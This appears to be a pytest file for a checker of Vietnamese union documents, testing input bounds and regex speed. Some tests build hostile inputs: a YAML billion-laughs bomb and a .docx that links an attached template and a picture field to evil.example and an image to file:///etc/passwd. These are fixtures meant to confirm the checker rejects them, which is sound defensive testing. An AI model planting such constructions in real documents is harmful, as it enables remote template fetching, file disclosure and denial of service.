"""Issue 14, item 2 for ``check``: what it reads is bounded (paragraphs, archive, spec)."""

from __future__ import annotations

import time
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vn_union_docs import check, limits
from vn_union_docs.checker import check_text


def test_check_refuses_a_docx_with_too_many_paragraphs(tmp_path: Path) -> None:
    document = docx.Document()
    for i in range(300):
        document.add_paragraph(f"Đoạn {i}")
    path = tmp_path / "many.docx"
    document.save(str(path))
    with limits.using(check_paragraphs=100):
        findings = check(path)
    assert len(findings) == 1 and "check_paragraphs" in findings[0].message
    assert not any("check_paragraphs" in f.message for f in check(path))


def test_check_of_a_billion_laughs_spec(tmp_path: Path) -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, name = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    path = tmp_path / "lol.yaml"
    path.write_text("type: cong_van\ndata:\n" + "".join(f"  {x}\n" for x in lines),
                    encoding="utf-8")
    findings = check(path)
    assert len(findings) == 1 and "giới hạn" in findings[0].message


# The number masks as they were before they were anchored at the start of a run; the anchored
# ones must find the same spans (a review found these took minutes on a 40 KB "word").
_UNANCHORED = [
    r"\S+@\S+|https?://\S+|www\.\S+",
    r"\d+(?:[.,]\d+)*\s*%",
    r"[^\W\d_]+-?\d+\w*",
    r"\d+[^\W\d_]+",
    r"\d+:\d+",
]


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="aĐệ1 0.,:%@-/_(w", max_size=40))
def test_anchored_masks_find_what_the_unanchored_found(text: str) -> None:
    import re

    from vn_union_docs.checker.rules_text import _MASKS

    anchored = {p.pattern.replace("(?<!\\S)", "").replace("(?<!\\d)(?<!\\d[.,])", "")
                .replace("(?<![^\\W\\d_])", "").replace("(?<!\\d)", ""): p for p in _MASKS}
    for source in _UNANCHORED:
        new = anchored[source]
        assert [m.span() for m in new.finditer(text)] == \
            [m.span() for m in re.finditer(source, text)], source


@pytest.mark.parametrize("run", ["a", "Đ", "1", "1.", "1,", "0 ", "a1"])
def test_a_long_run_is_checked_in_linear_time(run: str) -> None:
    # 100,000 characters without a break: linear checks take well under a second here; the
    # unanchored patterns took minutes (the web page checks as the clerk types).
    text = "Nội dung: " + run * (100_000 // len(run))
    start = time.perf_counter()
    check_text(text)
    assert time.perf_counter() - start < 10


def test_a_place_date_line_padded_with_spaces_is_quick_and_not_one() -> None:
    from vn_union_docs.checker.rules_frame import _analyse_place_date

    padded = "Thái Bình" + " " * 100_000 + ", ngày 01 tháng 02 năm 2024"
    start = time.perf_counter()
    problems, found = _analyse_place_date(padded)
    assert time.perf_counter() - start < 5
    assert problems == [("form", {})] and found is None
    assert _analyse_place_date("Thái Bình, ngày 01 tháng 02 năm 2024")[1] is not None


def test_a_paragraph_of_many_runs_is_checked_in_linear_time(tmp_path: Path) -> None:
    # Each run looked up its paragraph's style by a path search over all the paragraph's
    # children: 100,000 runs took over 300 s (a review), stored uncompressed to pass the
    # archive-ratio limit.
    import copy
    import io
    import zipfile

    document = docx.Document()
    paragraph = document.add_paragraph("x")
    run = paragraph.runs[0]._r
    for _ in range(80_000):
        paragraph._p.append(copy.deepcopy(run))
    buffer = io.BytesIO()
    document.save(buffer)
    path = tmp_path / "runs.docx"
    with zipfile.ZipFile(buffer) as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as stored:
        for info in source.infolist():
            stored.writestr(info.filename, source.read(info.filename))
    start = time.perf_counter()
    findings = check(path)
    assert time.perf_counter() - start < 20
    assert not any(f.rule == "unreadable" for f in findings)


def test_links_out_of_the_file_are_reported_web_links_are_not(tmp_path: Path) -> None:
    # check said «không thấy lỗi» for a .docx that Word would make fetch a server template
    # and read /etc/passwd (a review); template check reported both.
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement

    document = docx.Document()
    document.add_paragraph("Nội dung.")
    settings = document.part.part_related_by(RT.SETTINGS)
    settings.relate_to("http://evil.example/t.dotm", RT.OFFICE_DOCUMENT.rsplit("/", 1)[0]
                       + "/attachedTemplate", is_external=True)
    document.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    document.part.relate_to("https://congdoan.vn", RT.HYPERLINK, is_external=True)
    field = document.add_paragraph().add_run()._r  # a field that loads a picture from a server
    instruction = OxmlElement("w:instrText")
    instruction.text = 'INCLUDEPICTURE "http://evil.example/p.png"'
    field.append(instruction)
    path = tmp_path / "links.docx"
    document.save(str(path))
    links = [f for f in check(path) if f.rule == "external-link"]
    assert sorted(f.message.split("(", 1)[1].split(",")[0].strip() for f in links) == [
        "attachedTemplate → http://evil.example/t.dotm", "field → INCLUDEPICTURE",
        "image → file:///etc/passwd"]
    assert all(f.severity == "error" for f in links)
